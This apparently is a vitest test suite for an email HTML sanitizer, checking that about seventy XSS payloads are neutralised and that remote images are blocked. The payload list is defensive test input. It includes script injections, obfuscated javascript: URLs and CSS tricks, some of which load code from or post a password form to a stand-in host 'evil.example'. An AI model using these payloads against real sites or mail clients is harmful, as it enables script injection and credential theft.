import { describe, expect, test } from "vitest";
import { BLOCKED_IMAGE_PLACEHOLDER, sanitizeEmailHtml } from "../../../lib/emails/sanitize-email-html";

// Payloads from the usual XSS cheat sheets, shaped the way they arrive in HTML mail.
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" ONERROR="alert(1)">`,
  `<img/src=x/onerror=alert(1)>`,
  `<body onload=alert(1)>hi</body>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" &#14;  javascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="java\u0000script:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="VBScript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html,<script>alert(1)</script>">`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg onload=alert(1)><circle r=10 /></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<style>body{background:url(javascript:alert(1))}</style>`,
  `<style>div{width:expression(alert(1))}</style>`,
  `<style>@import url(http://evil.example/x.css);</style>`,
  `<style>@import 'http://evil.example/x.css';</style>`,
  `<style>@\\69mport 'http://evil.example/x.css';</style>`,
  `<style>a{-moz-binding:url(http://evil.example/x.xml#x)}</style>`,
  `<style>a{behavior:url(x.htc)}</style>`,
  `<style>a{background:u\\72l(javascript:alert(1))}</style>`,
  `<style>/* */@import/**/"http://evil.example/x.css";</style>`,
  `<style></style><script>alert(1)</script>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="width: expression(alert(1))">x</div>`,
  `<div style="background-image:url('http://evil.example/t.gif')">x</div>`,
  `<div style="behavior: url(x.htc)">x</div>`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<form action="http://evil.example/"><input name="password"><button>Go</button></form>`,
  `<input type="image" src="x" onerror="alert(1)">`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<applet code="x"></applet>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
  `<a href="http://ok.example/" onclick="alert(1)" target="_top">ok</a>`,
  `<img src="http://ok.example/a.png" srcset="javascript:alert(1) 1x">`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<isindex action=javascript:alert(1) type=image>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<a href="//evil.example/">x</a>`,
];

const ALLOWED_OUTPUT_TAGS = new Set([
  "a", "abbr", "address", "b", "bdi", "bdo", "big", "blockquote", "br", "caption", "center", "cite", "code", "col", "colgroup",
  "dd", "del", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "font", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img",
  "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strike", "strong", "style", "sub", "sup",
  "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr",
]);

/** Every tag and attribute of sanitised output (text and attributes are escaped, so a regex reads it exactly). */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map((m) => ({
    name: m[1].toLowerCase(),
    attrs: Object.fromEntries([...m[2].matchAll(/([^\s=]+)="([^"]*)"/g)].map((a) => [a[1].toLowerCase(), a[2]])),
  }));
}

function assertHarmless(out: string) {
  for (const tag of tagsOf(out)) {
    expect(ALLOWED_OUTPUT_TAGS.has(tag.name), `tag <${tag.name}> in ${out}`).toBe(true);
    for (const [name, value] of Object.entries(tag.attrs)) {
      expect(name.startsWith("on"), `attribute ${name} in ${out}`).toBe(false);
      expect(["action", "formaction", "srcset", "srcdoc", "background", "xlink:href", "http-equiv", "target"]).not.toContain(name);
      if (name === "href") expect(value, out).toMatch(/^(https?:|mailto:)/i);
      if (name === "src") expect(value === BLOCKED_IMAGE_PLACEHOLDER || /^(https?:|\/mail\/)/.test(value), out).toBe(true);
      if (name === "style") expect(value, out).not.toMatch(/url|expression|behavior|binding|javascript/i);
    }
  }
  const styles = [...out.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]).join("\n");
  expect(styles).not.toMatch(/@import|expression\s*\(|javascript|vbscript|binding|behavior|url\s*\(|\\/i);
  // The text that is left is escaped, so nothing that looks like markup remains outside real tags.
  expect(out.replace(/<style>[\s\S]*?<\/style>/g, "").replace(/<[^>]*>/g, "")).not.toMatch(/[<>]/);
}

describe("sanitizeEmailHtml against XSS payloads", () => {
  test.each(PAYLOADS.map((p) => [p]))("%s", (payload) => {
    const { html } = sanitizeEmailHtml(`<div>${payload}</div><p>after</p>`);
    assertHarmless(html);
    // An unclosed <math> swallows the rest of the document: dropped, never rendered.
    if (!payload.startsWith("<math>")) expect(html).toContain("<p>after</p>");
    const remoteAllowed = sanitizeEmailHtml(payload, { allowRemote: true }).html;
    for (const tag of tagsOf(remoteAllowed)) for (const name of Object.keys(tag.attrs)) expect(name.startsWith("on")).toBe(false);
    expect(remoteAllowed).not.toMatch(/javascript|vbscript|<script|<iframe|<form|<base|<meta|<object|<embed|<svg|expression\(|@import/i);
  });

  test("keeps ordinary mail formatting", () => {
    const { html } = sanitizeEmailHtml(
      `<table cellpadding="4" width="600"><tr><td style="color: #333; font-size: 14px; padding: 8px" align="center"><b>Hello</b> <a href="https://example.com/x?a=1&amp;b=2">link</a></td></tr></table>` +
        `<style>.x { color: red; background-color: #fff }</style>`,
    );
    expect(html).toContain('<td style="color:#333;font-size:14px;padding:8px" align="center"><b>Hello</b>');
    expect(html).toContain('href="https://example.com/x?a=1&amp;b=2"');
    expect(html).toContain('<table cellpadding="4" width="600">');
    expect(html).toContain("<style>.x { color: red; background-color: #fff }</style>");
  });
});

describe("images", () => {
  test("remote images become placeholders and are counted, unless remote content is allowed", () => {
    const input = `<img src="http://track.example/p.gif" width="1" height="1"><img src="https://cdn.example/logo.png" alt="Logo"><img src="//cdn.example/x.png">` +
      `<div style="background-image:url(https://cdn.example/bg.png)">x</div><style>td { background: url('https://cdn.example/bg2.png') }</style>`;
    const blocked = sanitizeEmailHtml(input);
    expect(blocked.blockedImages).toBe(4);
    expect(blocked.html).not.toMatch(/track\.example|cdn\.example/);
    expect(blocked.html).toContain(`<img src="${BLOCKED_IMAGE_PLACEHOLDER}" width="1" height="1" />`);
    expect(blocked.html).toContain(`alt="Logo"`);

    const allowed = sanitizeEmailHtml(input, { allowRemote: true });
    expect(allowed.blockedImages).toBe(0);
    expect(allowed.html).toContain('src="http://track.example/p.gif"');
    expect(allowed.html).toContain('src="https://cdn.example/logo.png"');
    expect(allowed.html).toContain('src="https://cdn.example/x.png"');
    expect(allowed.html).toContain(`url("https://cdn.example/bg2.png")`);
  });

  test("cid: images point at the attachment route; unknown cids lose their src", () => {
    const cidUrl = (id: string) => (id === "logo@mail" ? "/mail/m/1/attachments/0" : null);
    const { html, blockedImages } = sanitizeEmailHtml(`<img src="cid:logo@mail" alt="l"><img src="CID:%3Clogo@mail%3E"><img src="cid:missing@mail">`, { cidUrl });
    expect(blockedImages).toBe(0);
    expect(html).toBe('<img src="/mail/m/1/attachments/0" alt="l" /><img src="/mail/m/1/attachments/0" /><img />');
  });

  test("raster data: images (mailparser's inlined cid images) stay; other data: URLs go", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(sanitizeEmailHtml(`<img src="${png}">`).html).toBe(`<img src="${png}" />`);
    expect(sanitizeEmailHtml(`<img src="data:image/svg+xml,<svg onload=alert(1)>">`).html).toBe("<img />");
    expect(sanitizeEmailHtml(`<a href="${png}">x</a>`).html).toBe('<a rel="noopener noreferrer">x</a>');
  });
});
